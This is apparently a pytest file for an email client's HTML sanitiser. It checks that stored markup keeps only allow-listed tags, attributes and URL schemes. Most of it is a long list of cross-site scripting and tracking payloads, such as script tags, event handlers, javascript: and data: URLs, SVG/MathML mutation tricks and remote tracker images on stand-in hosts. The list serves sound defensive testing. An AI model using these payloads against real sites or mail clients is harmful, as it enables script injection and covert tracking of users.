"""Whatever a stranger's markup tries, what is stored holds allow-listed tags, attributes, schemes.

The result is parsed again, as a browser would, and every node of it is looked at.
"""

from __future__ import annotations

import pytest
from selectolax.lexbor import LexborHTMLParser

from maildesk.mail.html import sanitise, strip_tags
from tests.cost import at_most

TAG_NAMES = """
a abbr acronym area article aside b bdi bdo blockquote br caption center cite code col colgroup
data dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr
i img ins kbd li map mark nav ol p pre q rp rt rtc ruby s samp small span strike strong sub
summary sup table tbody td tfoot th thead time tr tt u ul var wbr
"""
TAGS = frozenset(TAG_NAMES.split())
ATTRIBUTE_NAMES = """
align alt char charoff colspan datetime dir headers height href hreflang lang rel rowspan scope
size span src start summary title width
"""
ATTRIBUTES = frozenset(ATTRIBUTE_NAMES.split())
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.evil/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<img src='cid:a' onload=alert(1)>",
    "<img src='cid:a\" onerror=alert(1) \"'>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src='data:image/png;base64,iVBORw0KGgo='>",
    "<img src='https://track.evil/p.gif'>",
    "<img src='//track.evil/p.gif'>",
    "<img Src='https://track.evil/p.gif'>",
    "<img sRC\n=\n'https://track.evil/p.gif'>",
    "<img \u017frc='https://track.evil/p.gif'>",
    "<img alt='src=cid:' src='https://track.evil/p.gif'>",
    "<img src=cid: src='https://track.evil/p.gif'><img src='cid:a' Src=https://track.evil/p.gif>",
    "<img src='cid:\thttps://track.evil/p.gif'><img src=cid:&#58;//track.evil/p.gif>",
    "<img/src/='https://track.evil/p.gif'><img src==https://track.evil/p.gif>",
    "<img src='\\\\track.evil\\p.gif'>",
    "<img srcset='https://track.evil/p.gif 2x' sizes=1px>",
    "<img dynsrc='https://track.evil/' lowsrc='https://track.evil/'>",
    "<picture><source srcset='https://track.evil/p'><img src='https://track.evil/p'></picture>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \t\n javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://x.evil/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//x.evil/'>x</a>",
    "<a href='https://x.evil/' target=_blank onclick=alert(1) style='position:fixed'>x</a>",
    "<area href='javascript:alert(1)'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='https://x.evil'></frameset>",
    "<object data='https://x.evil'><param name=x value=y></object><embed src='https://x.evil'>",
    "<applet code=a></applet><portal src='https://x.evil'></portal>",
    "<form action='https://x.evil'><input autofocus onfocus=alert(1)></form>",
    "<button formaction='javascript:alert(1)'>x</button><isindex action='javascript:alert(1)'>",
    "<select><option>x</option></select><textarea>y</textarea><keygen autofocus onfocus=alert(1)>",
    "<style>@import 'https://x.evil/a.css';body{background:url(https://track.evil)}</style>",
    "<p style='background:url(https://track.evil)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<link rel=stylesheet href='https://x.evil'><link rel=preload href='https://track.evil'>",
    "<base href='https://x.evil/'><a href='a'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://x.evil'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<body onload=alert(1) background='https://track.evil/b.gif'>x</body>",
    "<table background='https://track.evil/b.gif'><td background='https://track.evil/c.gif'>x</table>",
    "<bgsound src='https://track.evil'><video poster='https://track.evil'></video>",
    "<audio src='https://track.evil' onerror=alert(1)></audio><track src='https://track.evil'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x><set to='javascript:1'></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'></svg>",
    "<svg><foreignObject><iframe src='https://x.evil'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></math>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=1></noframes>",
    "<title><img src=x onerror=alert(1)></title><textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>--><!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]><?xml version='1.0'?><?php echo 1 ?>",
    "<p id=location name=cookie class=admin accesskey=x contenteditable tabindex=1>x</p>",
    "<p lang=x:y xml:base='javascript:alert(1)' xmlns='http://www.w3.org/1999/xhtml'>x</p>",
    "<a href='https://x.evil' ping='https://track.evil' download>x</a>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote><q cite='data:text/html,x'>y</q>",
    "<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee><x onclick=alert(1)>y</x>",
    "<o:p>&nbsp;</o:p><v:imagedata src='https://track.evil/'/><st1:place>Rome</st1:place>",
    "<img src=cid:a usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>",
    "<a href='mailto:a@b.example?subject=x%0d%0aBcc:c@d.example'>x</a>",
    "<slot name=x></slot><custom-element onclick=alert(1)></custom-element>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # The noncharacters that `quote_marks` writes and takes out again, in every spelling.
    "<a class=gmail_quote href='java\ufdd0script:alert(1)'>x</a><a href='\ufdd1javascript:1'>y</a>",
    "<a class=gmail_quote href='java&#xFDD0;script:alert(1)'>x</a><img src='&#64977;data:x'>",
    "<a class=gmail_quote href='&#xFDD0;javascript:1'>x</a><scr&#xFDD0;ipt>y</scr&#xFDD0;ipt>",
    "<div title='<div class=gmail_quote ' class=gmail_quote><img src='cid&#xFDD1;:x' onerror=1>",
    "<div class=\"gmail_quote'><img src=x onerror=alert(1)>\"><hr id=stopSpelling onclick=1>",
    "<textarea><div class=gmail_quote></textarea><img src=x onerror=alert(1)>",
)  # fmt: skip


@pytest.mark.parametrize("source", ATTACKS, ids=range(len(ATTACKS)))
@pytest.mark.parametrize(
    "around", ["{}", "<p>{}</p>", "<table><tr><td>{}", "<div title='{}'>x</div>", "<svg>{}</svg>{}"]
)
def test_what_is_stored_holds_nothing_that_acts(source: str, around: str) -> None:
    markup = sanitise(around.replace("{}", source)).markup or ""
    check(markup)
    assert sanitise(markup).markup == markup, "cleaning it once more would change it"


def check(markup: str) -> None:
    tree = LexborHTMLParser(markup)
    assert tree.head is not None
    assert tree.head.first_child is None
    for node in tree.css("body *"):
        assert node.tag in TAGS
        for name, value in node.attributes.items():
            assert name in ATTRIBUTES, name
            scheme = (value or "").partition(":")[0]
            if name == "src":
                assert scheme == "cid", value
            elif name == "href":
                assert scheme.lower() in ("http", "https", "mailto", "cid"), value


def test_a_link_that_stays_says_nothing_of_the_desk_to_where_it_leads() -> None:
    markup = sanitise("<a href='https://x.example/'>x</a>").markup or ""
    assert 'rel="noopener noreferrer nofollow"' in markup


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("<script>alert(1)</script>yes", "yes"),
        ("<STYLE type=x>p{}</Style >yes", "yes"),
        ("a<!-- no -->b<!-- never closed <b>c</b>", "a b never closed c"),
        ("yes<script>never closed", "yes"),
        ("yes<select><option>no</select><b>and</b> yes", "yes and yes"),
        ("<scripture>yes</scripture>", "yes"),
        ("&lt;b&gt; caf&eacute;&nbsp;&#8364;&#0;&#x1b;", "<b> café €"),
        ("İ<script>x</script>İ", "İ İ"),
    ],
)
def test_markup_no_parser_should_get_gives_its_words_only(source: str, text: str) -> None:
    assert strip_tags(source).replace("\ufffd", "").strip() == text


@pytest.mark.parametrize("depth", [2_000, 20_000, 50_000])
def test_no_script_is_shown_however_deep_the_markup_nests(depth: int) -> None:
    words = sanitise("<div>" * depth + "<script>alert(1)</script>words").text()
    assert words == "words"


@pytest.mark.parametrize("opening", ["<!--", "<script>", "<select>", "<style", "<noscript>x"])
def test_openings_that_are_never_closed_cost_linear_time(opening: str) -> None:
    with at_most(0.5):
        strip_tags(opening * (256 * 1024 // len(opening)))
